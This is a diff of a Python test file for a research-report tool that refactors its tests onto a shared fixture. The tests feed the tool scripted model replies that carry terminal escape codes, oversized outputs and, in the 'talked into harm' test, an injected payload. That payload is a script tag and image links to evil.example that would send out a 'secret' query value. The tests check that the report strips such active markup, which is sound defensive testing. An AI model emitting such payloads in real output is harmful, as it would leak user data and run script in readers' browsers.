@@ -11,7 +11,7 @@ from typing import Any
 import pytest
 
 from deep_research.events import ReportPiece
-from tests.model.harness import PLAN, assert_presentable, of_step, playing, quickly, research, served, writing
+from tests.model.harness import PLAN, Scene, assert_presentable, of_step, playing, writing
 from tests.support.scripted_provider import UNLIMITED
 from tests.support.scripted_replies import Call, Reply, Request
 from tests.support.scripted_researcher import ScriptedResearcher, step_of
@@ -56,7 +56,7 @@ def _shown(home: Path) -> str:
     return "\n".join(path.read_text("utf-8") for path in paths)
 
 
-def test_terminal_codes_of_a_model_are_nowhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_terminal_codes_of_a_model_are_nowhere(scene: Scene) -> None:
     texts: list[str] = []
 
     def spoil(text: str) -> str:
@@ -68,21 +68,18 @@ def test_terminal_codes_of_a_model_are_nowhere(tmp_path: Path, monkeypatch: pyte
             return replace(reply, text=json.dumps(_everywhere(json.loads(reply.text), spoil)))
         return replace(reply, data=_everywhere(reply.data, spoil), text=_everywhere(reply.text, spoil))
 
-    with served(monkeypatch, _Changed(evil)):
-        ran = research(tmp_path)
+    ran = scene.research(_Changed(evil))
     assert_presentable(ran)
     assert ran.report.answered
     assert len(texts) > 30
-    assert _RAW.search(_shown(tmp_path / "home")) is None
+    assert _RAW.search(_shown(scene.folder / "home")) is None
     told = [event.model_dump_json() for event in ran.events if not isinstance(event, ReportPiece)]
     # Of a code that two pieces of a stream share, its harmless letters may be left.
     told += [event.text.replace("PWNED", "") for event in ran.of(ReportPiece)]
     assert not any(_RAW.search(text) for text in told)
 
 
-def test_a_model_that_was_talked_into_harm_brings_no_link_and_no_markup_that_acts(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_a_model_that_was_talked_into_harm_brings_no_link_and_no_markup_that_acts(scene: Scene) -> None:
     evil = (
         '<script>alert(1)</script> ![x](https://evil.example/?q=secret) <img src="https://evil.example/p.gif"> [s1p1]'
     )
@@ -98,8 +95,7 @@ def test_a_model_that_was_talked_into_harm_brings_no_link_and_no_markup_that_act
             return replace(reply, text=json.dumps({**said, "edits": [{**edit, "new": evil} for edit in said["edits"]]}))
         return reply
 
-    with served(monkeypatch, _Changed(lying)):
-        report = research(tmp_path).report
+    report = scene.research(_Changed(lying)).report
     assert report.edits
     for shown in (report.report, report.title):
         assert not re.search(r"(?<![`\\])<(?:script|img)", shown)
@@ -122,7 +118,7 @@ def test_a_model_that_was_talked_into_harm_brings_no_link_and_no_markup_that_act
     ],
     ids=["usage", "minus", "surrogates", "thoughts", "objects", "lists", "deep", "calls"],
 )  # fmt: skip
-def test_odd_answers_end_no_run(odd: Callable[[Reply], Reply], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_odd_answers_end_no_run(odd: Callable[[Reply], Reply], scene: Scene) -> None:
     asked = 0
 
     def sometimes(_step: str, reply: Reply) -> Reply:
@@ -130,31 +126,26 @@ def test_odd_answers_end_no_run(odd: Callable[[Reply], Reply], tmp_path: Path, m
         asked += 1
         return odd(reply) if asked % 2 else reply
 
-    with served(monkeypatch, _Changed(sometimes)):
-        ran = research(tmp_path)
+    ran = scene.research(_Changed(sometimes))
     assert_presentable(ran)
     assert ran.folder.load().status == "finished"
 
 
-def test_a_text_without_end_is_gone_on_with_no_further_and_bounded(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_a_text_without_end_is_gone_on_with_no_further_and_bounded(scene: Scene) -> None:
     endless = Reply(text="The engine was built in 1871 [s1p1]. " * 12_000, finish_reason="length", fault=UNLIMITED)
-    with served(monkeypatch, playing(write=lambda _: endless)) as provider:
-        report = quickly(tmp_path, depth="brief").report
-    assert len(of_step(provider, "write")) == 1
+    report = scene.quickly(playing(write=lambda _: endless), depth="brief").report
+    assert len(of_step(scene.provider, "write")) == 1
     assert len(report.report) < 350_000
 
 
-def test_of_a_list_without_end_the_start_counts(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_of_a_list_without_end_the_start_counts(scene: Scene) -> None:
     problem = {"quote": "", "verdict": "unclear", "problem": "again", "evidence": "", "passages": []}
     many = Reply(data={"problems": [problem] * 1_500, "parts": []}, fault=UNLIMITED)
-    with served(monkeypatch, playing(examine=lambda _: many)):
-        report = quickly(tmp_path).report
+    report = scene.quickly(playing(examine=lambda _: many)).report
     assert 0 < len([one for one in report.problems if one.problem == "again"]) <= 200
 
 
-def test_hundreds_of_contradicted_statements_go_in_one_pass(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_hundreds_of_contradicted_statements_go_in_one_pass(scene: Scene) -> None:
     def against_all(request: Request) -> Reply:
         count = len(re.findall(r"^\d+\. ", request["messages"][-1]["text"].partition("The statements")[2], re.M))
         wrong = [
@@ -170,8 +161,7 @@ def test_hundreds_of_contradicted_statements_go_in_one_pass(tmp_path: Path, monk
         revise=lambda _: Reply(data={"edits": [], "rejected": []}),
     )
     began = time.process_time()
-    with served(monkeypatch, script):
-        report = quickly(tmp_path, depth="brief").report
+    report = scene.quickly(script, depth="brief").report
     assert time.process_time() - began < 8, "it took 16 s when the text was taken apart anew for each"
     assert len([gap for gap in report.gaps if gap.codes == ("block_removed",)]) == 600
     assert "I would wait." in report.report
